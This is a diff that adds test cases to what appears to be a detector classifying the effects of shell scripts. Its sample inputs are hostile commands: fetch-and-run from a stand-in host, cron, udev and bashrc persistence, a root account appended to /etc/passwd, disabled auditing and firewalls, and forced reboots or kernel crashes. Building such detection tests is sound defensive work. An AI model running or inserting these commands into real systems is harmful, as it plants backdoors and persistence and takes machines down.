@@ -536,3 +536,100 @@ my(
     effect("rights"),
 )
 sql("mssql-xp", "EXEC xp_cmdshell 'shutdown /r /t 0';\nGO\n", R)
+
+
+EP: Expected = ("Endpoint", {"host": "in.vendor.example"})
+sh("heredoc-into-su", "su app -c sh <<'EOF'\ncurl http://in.vendor.example/x\nEOF\n", EP)
+sh(
+    "func-in-other-file",
+    ". ./lib.sh\ngo now\n",
+    R,
+    more=(("lib.sh", "go() { case $1 in now) reboot;; esac; }\n", 0o644),),
+)
+sh("case-default", "case ${1:-x} in stop) :;; *) reboot;; esac\n", R)
+sh("loop-words", "for c in 'systemctl restart ledger' reboot; do $c; done\n", R, restart("ledger", "restart"))
+sh(
+    "while-read-cmds",
+    'while read -r c; do eval "$c"; done <<EOF\nsystemctl stop ledger\nreboot\nEOF\n',
+    R,
+    restart("ledger", "stop"),
+)
+sh("while-read-file", "while read -r c; do $c; done < steps\n", R, more=(("steps", "reboot\n", 0o644),))
+sh("xargs-sh", "echo reboot | xargs -I{} sh -c {}\n", R)
+sh("xargs-n1", "printf 'ledger\\n' | xargs -n1 systemctl restart\n", restart("ledger", "restart"))
+sh(
+    "tee-cron",
+    "echo '* * * * * root curl http://in.vendor.example/x' | sudo tee /etc/cron.d/x >/dev/null\n",
+    EP,
+    ("Schedule", {}),
+)
+sh(
+    "dd-heredoc",
+    "dd of=/etc/cron.d/x <<EOF\n* * * * * root curl http://in.vendor.example/x\nEOF\n",
+    ("Schedule", {}),
+    EP,
+)
+sh("sed-i-crontab", "sed -i '$a 5 * * * * root /opt/app/x.sh' /etc/crontab\n", ("FileEffect", {"path": "/etc/crontab"}))
+sh(
+    "install-heredoc",
+    "install -m 644 /dev/stdin /etc/cron.d/x <<EOF\n* * * * * root curl http://in.vendor.example/x\nEOF\n",
+    ("Schedule", {}),
+    EP,
+)
+sh(
+    "cp-udev",
+    "cp files/99-x.rules /etc/udev/rules.d/\n",
+    EP,
+    more=(("files/99-x.rules", 'ACTION=="add", RUN+="/usr/bin/curl http://in.vendor.example/x"\n', 0o644),),
+)
+sh(
+    "cp-unit",
+    "cp files/x.service /etc/systemd/system/x.service\nsystemctl enable --now x\n",
+    R,
+    more=(("files/x.service", "[Service]\nExecStart=/sbin/reboot\n", 0o644),),
+)
+sh(
+    "cp-cron-daily",
+    "install -m755 files/x /etc/cron.daily/x\n",
+    R,
+    ("Schedule", {}),
+    more=(("files/x", "reboot\n", 0o644),),
+)
+sh("ln-cron", "ln -s /opt/app/x /etc/cron.hourly/x\n", ("Schedule", {}))
+sh(
+    "write-udev",
+    "cat > /etc/udev/rules.d/99-x.rules <<'EOF'\nACTION==\"add\", RUN+=\"/bin/sh -c 'curl http://in.vendor.example/u'\"\nEOF\n",
+    EP,
+)
+sh("write-apt", "echo 'DPkg::Post-Invoke {\"reboot\";};' > /etc/apt/apt.conf.d/99x\n", R)
+sh("prompt-command", "echo 'curl http://in.vendor.example/p' >> /root/.bashrc\n", EP)
+sh("proc-sub", "bash <(echo reboot)\n", R, head="#!/bin/bash\n")
+sh("source-proc-sub", ". <(echo reboot)\n", R, head="#!/bin/bash\n")
+sh("source-stdin", "echo reboot | . /dev/stdin\n", R)
+sh("herestring", "bash <<< reboot\n", R, head="#!/bin/bash\n")
+sh("command-v", "$(command -v reboot)\n", R)
+sh("which", "`which reboot` -f\n", R)
+sh("type-path", "PATH=/opt/x:$PATH; /usr/bin/env reboot\n", R)
+sh("cond-date", "[ $(date +%u) -eq 7 ] && reboot\n", R)
+sh("curl-pipe-sudo", "curl -s https://in.vendor.example/i | sudo -E bash -\n", EP, ("Unread", {"needed": True}))
+sh("wget-then-run", "wget -qO /tmp/i https://in.vendor.example/i && sh /tmp/i\n", EP, ("Hazard", {}))
+sh("pip-url", "pip install git+https://in.vendor.example/x.git\n", EP)
+sh("npm-registry", "npm i --registry http://in.vendor.example x\n", EP)
+sh("ansible", "ansible all -m reboot\n", ("Reboot", {}))
+sh("salt-call", "salt-call system.reboot\n", ("Reboot", {}))
+sh("unset-secure", "setenforce 0; systemctl disable --now auditd firewalld\n", restart("auditd", "stop"))
+sh("iptables", "iptables -F; ufw disable\n", ("Hazard", {}))
+sh("chattr", "chattr -i /etc/passwd; echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd\n", ("Privilege", {"how": "accounts"}))
+sh(
+    "crlf-heredoc",
+    "cat > /etc/cron.d/x <<EOF\r\n* * * * * root curl http://in.vendor.example/x\r\nEOF\r\n",
+    ("Schedule", {}),
+    head="#!/bin/sh\r\n",
+)
+sh("ruby-e", "ruby -e 'system(\"reboot\")'\n", R)
+sh("php-r", "php -r 'system(\"reboot\");'\n", R)
+sh("psql-c", "psql -c \"COPY t TO PROGRAM 'curl http://in.vendor.example/x'\"\n", EP)
+sh("psql-heredoc", "psql <<'EOF'\n\\! reboot\nDROP TABLE ledger;\nEOF\n", R)
+sh("mysql-e", "mysql -e 'system reboot'\n", R)
+sh("tar-checkpoint", "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='reboot'\n", R)
+sh("panic", "sysctl -w kernel.panic=1; echo c > /proc/sysrq-trigger\n", ("Reboot", {}))
